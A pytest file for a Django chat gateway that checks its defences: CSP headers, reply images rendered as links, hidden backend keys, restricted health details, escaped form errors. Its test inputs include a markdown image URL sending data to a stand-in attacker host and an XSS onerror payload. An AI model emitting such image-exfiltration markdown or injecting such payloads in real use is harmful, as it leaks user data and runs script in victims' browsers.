"""CSP and no inline script, no images in replies, the backend key never in
the admin's HTML, /healthz's details, upstream error bodies, escaped form
errors."""
import json
import logging
import re

import pytest
from django.test import AsyncClient, Client

from conversations.rendering import render_markdown
from gateway.models import Backend
from tests.abuse.conftest import akey_for
from tests.gateway.helpers import add_remote

SCRIPT_TAG = re.compile(r"<script\b([^>]*)>(.*?)</script>", re.S | re.I)


def inline_scripts(html: str) -> list[str]:
    """Script elements that carry code of their own (not src=, not JSON data)."""
    found = []
    for attrs, body in SCRIPT_TAG.findall(html):
        if "src=" in attrs or "application/json" in attrs:
            assert not body.strip(), attrs
            continue
        found.append(body)
    return found


@pytest.mark.django_db
def test_pages_send_a_csp_without_inline_script_and_have_none(alice_client, admin_client):
    for client, path in [(alice_client, "/"), (alice_client, "/c/preferences/"), (alice_client, "/settings/api-keys/"),
                         (Client(), "/accounts/login/"), (Client(), "/accounts/signup/"), (admin_client, "/admin/")]:
        response = client.get(path)
        assert response.status_code == 200, path
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert "img-src 'self' data:" in policy and "frame-ancestors 'none'" in policy
        assert inline_scripts(response.content.decode()) == [], path


def test_images_in_replies_are_links_not_images():
    html = render_markdown("see ![the chat](https://evil.example/leak?d=secret) and <img src=https://evil.example/x>")
    assert "<img" not in html
    assert 'href="https://evil.example/leak?d=secret"' in html and "[image: the chat]" in html
    assert "&lt;img" in html  # raw HTML stays text


def test_a_reference_style_image_is_a_link_too():
    html = render_markdown("![x][r]\n\n[r]: https://evil.example/r.png")
    assert "<img" not in html and "evil.example/r.png" in html


@pytest.mark.django_db
def test_the_remote_backend_key_is_never_rendered_in_the_admin(admin_client):
    backend = Backend.objects.create(name="remote", base_url="http://gpu:8000/v1", api_key="sk-very-secret-1234")
    page = admin_client.get(f"/admin/gateway/backend/{backend.pk}/change/").content.decode()
    assert "sk-very-secret-1234" not in page and "A key is stored" in page
    form = {"name": "remote", "kind": "openai", "pool": "", "base_url": "http://gpu:8000/v1", "remote_model": "m",
            "api_key": "", "context_window": 8192, "fallbacks": "", "enabled": "on", "listed": "on"}
    assert admin_client.post(f"/admin/gateway/backend/{backend.pk}/change/", form).status_code == 302
    backend.refresh_from_db()
    assert backend.api_key == "sk-very-secret-1234"  # empty keeps it
    admin_client.post(f"/admin/gateway/backend/{backend.pk}/change/", {**form, "api_key": "sk-new"})
    backend.refresh_from_db()
    assert backend.api_key == "sk-new"
    admin_client.post(f"/admin/gateway/backend/{backend.pk}/change/", {**form, "clear_api_key": "on"})
    backend.refresh_from_db()
    assert backend.api_key == ""
    listing = admin_client.get("/admin/gateway/backend/").content.decode()
    assert "sk-new" not in listing


@pytest.mark.django_db
def test_healthz_details_are_for_loopback_and_staff_only(admin_user):
    public = Client(REMOTE_ADDR="203.0.113.5").get("/healthz").json()
    assert set(public) == {"status", "database", "redis", "model_pools"}
    assert all(set(pool) == {"status"} for pool in public["model_pools"].values())
    assert "detail" not in public["database"] and "detail" not in public["redis"]
    staff = Client(REMOTE_ADDR="203.0.113.5")
    staff.force_login(admin_user)
    assert "model" in next(iter(staff.get("/healthz").json()["model_pools"].values()))
    assert "model" in next(iter(Client().get("/healthz").json()["model_pools"].values()))  # loopback


async def test_an_upstream_error_body_is_logged_not_shown(transactional_db, fake_openai, alice, settings, caplog):
    from asgiref.sync import sync_to_async

    await sync_to_async(add_remote)(fake_openai, "broken", remote_model="fake-400")
    key = await akey_for(alice)
    body = json.dumps({"model": "broken", "messages": [{"role": "user", "content": "hi"}]})
    with caplog.at_level(logging.WARNING, logger="gateway.backends"):
        response = await AsyncClient().post("/v1/chat/completions", body, content_type="application/json",
                                            headers={"Authorization": f"Bearer {key}"})
    assert response.status_code == 400
    assert "context length exceeded" not in response.content.decode()
    assert "HTTP 400" in response.json()["error"]["message"]
    assert "context length exceeded" in caplog.text


@pytest.mark.django_db
def test_a_model_name_echoed_in_an_error_is_escaped(alice_client, fake_gateway):
    evil = '<img src=x onerror="alert(1)">'
    response = alice_client.post("/c/new", {"text": "Hi", "model": evil}, headers={"HX-Request": "true"})
    assert response.status_code == 422
    body = response.content.decode()
    assert "<img" not in body and "&lt;img" in body
    page = alice_client.post("/c/new", {"text": "Hi", "model": evil})
    assert "<img src=x" not in page.content.decode()


# `check --deploy` with the documented production settings: tests/test_settings.py runs it.
